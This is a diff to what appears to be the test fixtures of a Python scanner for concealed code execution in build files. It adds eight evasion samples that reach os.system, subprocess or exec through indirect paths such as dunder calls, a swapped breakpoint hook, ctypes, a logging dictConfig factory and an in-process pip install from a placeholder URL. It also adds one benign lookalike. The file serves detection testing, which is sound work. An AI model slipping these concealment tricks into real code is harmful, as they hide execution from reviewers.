@@ -446,10 +446,47 @@ BUILD_SCRIPTS = (
     ),
 )
 
+# Round 4d: calls reached through Python's own indirections; the hiding alone blocks.
+INDIRECTIONS = (
+    Technique("dunder-call-of-a-runner", f"import os\nos.system.__call__({_ECHO!r})\n"),
+    Technique(
+        "import-module-under-another-name",
+        "import importlib\nim = importlib.import_module\n"
+        f"im('subprocess').call({_ECHO!r}, shell=True)\n",
+    ),
+    Technique(
+        "function-picked-from-a-module-namespace",
+        f"import os\n[f for n, f in vars(os).items() if n == 'system'][0]({_ECHO!r})\n",
+    ),
+    Technique(
+        "breakpoint-hook-swapped",
+        f"import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint({_ECHO!r})\n",
+    ),
+    Technique(
+        "python-c-api-runs-a-string",
+        f"import ctypes\nctypes.pythonapi.PyRun_SimpleString({_RUN_DECODED.encode()!r})\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "exec-inside-a-list-given-to-reduce",
+        "import functools\nfunctools.reduce(lambda a, f: f(a), [exec], \"print('hello')\")\n",
+    ),
+    Technique(
+        "logging-dictconfig-factory-names-a-runner",
+        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': "
+        f"{{'h': {{'()': 'os.system', 'command': {_ECHO!r}}}}}}})\n",
+    ),
+    Technique(
+        "pip-main-in-process-installs-a-url",
+        "from pip._internal.cli.main import main\n"
+        "main(['install', 'https://example.invalid/helper-1.0.tar.gz'])\n",
+    ),
+)
+
 BLOCKED = (
     IMPLICIT_CALLS + EXEC_BY_OTHER_NAMES + LOOKUPS + EXFILTRATION + WRITERS + DECODERS + ARGV
     + CODE_REWRITE + UNREAD_CODE + BUILD_FETCHES + DATA_FILE_PAYLOADS + SPLIT_ACROSS_MODULES
-    + ASSEMBLED + CONFIGURED_CODE + BUILD_SCRIPTS
+    + ASSEMBLED + CONFIGURED_CODE + BUILD_SCRIPTS + INDIRECTIONS
 )
 
 # Ordinary build code near these techniques: it must stay below medium.
@@ -554,6 +591,14 @@ ORDINARY = (
          "run_command('ln', '-s', '-f', meson.current_source_dir() / 'meson.build', link)\n",
          "CMakeLists.txt": "add_custom_command(TARGET t POST_BUILD COMMAND \"${CMAKE_COMMAND}\""
          " -E copy \"$<TARGET_FILE:t>\" \"$<TARGET_FILE_DIR:t>/t2\")\n"},
+    ),
+    Technique(
+        "logging-config-reduce-and-a-module-listing",
+        "import functools, logging.config, operator, os\nlogging.config.dictConfig("
+        "{'version': 1, 'handlers': {'h': {'class': 'logging.StreamHandler'}}})\n"
+        "total = functools.reduce(operator.add, [1, 2])\n"
+        "names = [n for n, f in vars(os).items() if n.startswith('path')]\n",
+        Severity.INFO,
     ),
     Technique(
         "decorator-renaming-a-function-code",
